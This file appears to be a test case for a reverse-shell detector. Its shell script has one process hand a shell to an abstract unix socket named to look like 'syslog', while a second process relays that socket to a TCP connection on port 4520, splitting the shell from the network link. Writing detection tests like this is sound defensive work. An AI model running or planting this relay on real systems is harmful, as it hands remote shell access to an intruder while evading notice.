# about: two strangers over an abstract unix socket: one holds the connection, the other a shell on pipes
# expect: reverse_shell medium
# needs: python3
proven 4520
cat >copy.py <<'P'
import os,select
def copy(pairs):
    way=dict(pairs)
    while True:
        for f in select.select(list(way),[],[])[0]:
            d=os.read(f,4096)
            if not d: return
            os.write(way[f],d)
P
setsid timeout 7 python3 -c 'import socket,copy as _,subprocess,sys; sys.path.insert(0,"."); exec(open("copy.py").read())
l=socket.socket(socket.AF_UNIX); l.bind("\0syslog-2"); l.listen(1); c,_=l.accept()
p=subprocess.Popen(["sh"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
copy([(c.fileno(),p.stdin.fileno()),(p.stdout.fileno(),c.fileno())])' &
sleep 0.6
setsid timeout 6 python3 -c 'import socket; exec(open("copy.py").read())
s=socket.create_connection(("127.0.0.1",4520)); u=socket.socket(socket.AF_UNIX); u.connect("\0syslog-2")
copy([(s.fileno(),u.fileno()),(u.fileno(),s.fileno())])' || true
answered
